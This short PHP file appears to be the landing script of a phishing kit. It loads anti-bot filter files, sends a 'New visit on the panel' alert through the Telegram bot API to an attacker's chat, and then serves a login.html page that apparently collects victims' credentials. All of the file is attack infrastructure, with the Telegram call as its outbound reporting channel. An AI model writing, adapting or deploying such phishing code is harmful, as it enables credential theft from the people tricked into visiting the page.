<?php
include 'anti/anti2.php';
include 'anti/anti3.php';
$token = '000000:example-token';
$chat = '1234';
$text = "New visit on the panel";
file_get_contents("https://api.telegram.org/bot$token/sendMessage?chat_id=$chat&text=" . urlencode($text));
include 'login.html';
